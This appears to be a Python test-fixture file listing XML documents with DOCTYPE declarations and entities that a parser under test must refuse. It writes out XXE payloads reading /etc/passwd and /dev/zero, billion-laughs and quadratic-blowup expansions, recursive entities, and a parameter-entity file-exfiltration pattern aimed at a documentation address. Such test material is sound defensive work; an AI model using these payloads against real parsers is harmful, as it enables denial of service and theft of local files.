"""Document types and entities: every one is refused, whatever it is for, and nothing of it is looked up or expanded."""

from __future__ import annotations

from tipx.generate.suite.spelling import NS, XML, edited
from tipx.generate.suite.xml_stretches import ROOT, above_root, with_text

Texts = tuple[tuple[str, str, str], ...]
"""Rows: a name, what it is about, the document."""

NOWHERE = "http://192.0.2.1/sample"
"""An address at which nobody listens: it is set aside for documentation."""


def typed(declarations: str, used: str = "Sample P-17") -> str:
    """The record with a document type of such declarations, and what stands for the pseudonym then."""
    return above_root(f"<!DOCTYPE victim [{declarations}]>\n", with_text(used))


LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS_OF_PARAMETERS = '<!ENTITY % a0 "x">' + "".join(
    f'<!ENTITY % a{n} "{f"&#37;a{n - 1};" * 10}">' for n in range(1, 10)
)

TYPES: Texts = (
    ("bare", "A document type and nothing else.", above_root("<!DOCTYPE victim>\n")),
    ("empty-subset", "A document type with nothing in it.", typed("")),
    ("external-file", "A document type in a file of the receiver.", above_root('<!DOCTYPE victim SYSTEM "file:///etc/passwd">\n')),
    ("external-address", "A document type at an address.", above_root(f'<!DOCTYPE victim SYSTEM "{NOWHERE}.dtd">\n')),
    ("public", "A document type with a public name.",
        above_root(f'<!DOCTYPE victim PUBLIC "-//Sample//DTD Sample//EN" "{NOWHERE}.dtd">\n')),
    ("behind-a-comment", "A document type behind a comment.", above_root("<!-- a --><!DOCTYPE victim>\n")),
    ("comment-in-subset", "A comment in the document type that looks like its end.", typed("<!-- ]> -->")),
    ("instruction-in-subset", "A processing instruction in the document type.", typed("<?a ]>?>")),
    ("elements-declared", "A document type that declares elements.", typed("<!ELEMENT victim ANY>")),
    ("default-of-an-attribute", "A document type that gives an attribute.", typed('<!ATTLIST pseudonym a CDATA "b">')),
    ("default-of-the-namespace", "A document type that gives the namespace.",
        above_root(f'<!DOCTYPE victim [<!ATTLIST victim xmlns CDATA #FIXED "{NS}">]>\n', edited(XML, (ROOT, "<victim>")))),
    ("standalone", "A document type in a document that says to stand alone.", edited(typed(""), ('UTF-8"?>', 'UTF-8" standalone="yes"?>'))),
    ("billion-laughs", "Entities of entities that grow to a thousand million.", typed(LAUGHS, "&a9;")),
    ("billion-laughs-in-attribute", "The same in an attribute.", edited(typed(LAUGHS), ("<pseudonym>", "<pseudonym a='&a9;'>"))),
    ("billion-laughs-unused", "The same, never used.", typed(LAUGHS)),
    ("laughs-of-parameters", "The same of parameter entities.", typed(f"{LAUGHS_OF_PARAMETERS}%a9;")),
    ("quadratic-blow-up", "One long entity, named ten thousand times.", typed(f'<!ENTITY a "{"x" * 20_000}">', "&a;" * 10_000)),
    ("recursion", "Two entities that name each other.", typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")),
    ("recursion-of-itself", "An entity that names itself.", typed('<!ENTITY a "&a;">', "&a;")),
    ("entity-harmless", "A harmless entity.", typed('<!ENTITY a "Sample">', "&a;")),
    ("entity-file", "An entity that is a file of the receiver.", typed('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;")),
    ("entity-device", "An entity that is a device without end.", typed('<!ENTITY a SYSTEM "file:///dev/zero">', "&a;")),
    ("entity-address", "An entity at an address.", typed(f'<!ENTITY a SYSTEM "{NOWHERE}">', "&a;")),
    ("entity-relative", "An entity in a file beside the payload.", typed('<!ENTITY a SYSTEM "../sample.txt">', "&a;")),
    ("entity-unused", "An entity that is a file, never used.", typed('<!ENTITY a SYSTEM "file:///etc/passwd">')),
    ("entity-parameter", "A parameter entity at an address.", typed(f'<!ENTITY % a SYSTEM "{NOWHERE}"> %a;')),
    ("entity-sends-a-file", "Parameter entities that send a file away.",
        typed(f'<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "{NOWHERE}"> %b; %c;')),
    ("entity-of-an-element", "An entity that is an element.", edited(typed('<!ENTITY a "<sex>male</sex>">'), ("<sex>female</sex>", "&a;"))),
    ("entity-predefined-anew", "An entity of XML itself, declared anew.", typed('<!ENTITY lt "&#38;#60;">')),
    ("entity-unparsed", "An entity that is no text.", typed('<!NOTATION n SYSTEM "a"><!ENTITY a SYSTEM "b" NDATA n>')),
    ("entity-of-the-default-of-an-attribute", "An entity in what an attribute is by default.",
        typed('<!ENTITY a "x"><!ATTLIST pseudonym b CDATA "&a;">')),
    ("entities-2-000", "Two thousand entities.", typed("".join(f'<!ENTITY a{number} "x">' for number in range(2_000)))),
    ("web-page", "A page of the web.", "<!DOCTYPE html>\n<html><head><title>Sample</title></head></html>\n"),
)  # fmt: skip
